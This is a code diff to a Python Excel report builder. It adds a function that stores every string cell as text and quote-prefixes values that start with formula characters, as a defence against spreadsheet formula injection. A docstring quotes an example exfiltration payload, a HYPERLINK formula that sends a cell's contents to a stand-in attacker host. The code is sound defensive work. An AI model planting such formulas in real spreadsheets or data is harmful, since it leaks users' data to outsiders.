@@ -310,6 +310,7 @@ def build_workbook(report: dict[str, Any]) -> Workbook:
     for offset, item in enumerate(report["teaching_cases"]):
         cell = sheet.cell(row=first + offset, column=9)
         cell.hyperlink, cell.style = item["link"], "Hyperlink"
+    _as_text(book)
     return book
 
 
@@ -322,6 +323,28 @@ def _agent_problem_codes(report: dict[str, Any]) -> list[str]:
     table (the most frequent first)."""
     present = {code for agent in report["agents"] for code in agent["problems"]}
     return [c["code"] for c in report["categories"] if c["code"] in present]
+
+
+# What a spreadsheet may read as the start of a formula when a cell is typed or re-entered
+# (OWASP's list for CSV injection; openpyxl itself writes a string starting with = as one).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _as_text(book: Workbook) -> None:
+    """Every string cell is text, whatever it starts with. The report writes no formulas,
+    and its strings (agent and shop names, messages, evidence, notes) come from outside: an
+    agent named `=HYPERLINK("http://evil.example/?leak="&A1)` must not become a live
+    formula. A string that could read as one also gets Excel's quote prefix, so it stays
+    text when somebody edits the cell."""
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                value = cell.value
+                if isinstance(value, str):
+                    if cell.data_type != "s":
+                        cell.data_type = "s"
+                    if value.startswith(FORMULA_STARTS):
+                        cell.quotePrefix = True
 
 
 def render_xlsx(report: dict[str, Any]) -> bytes:
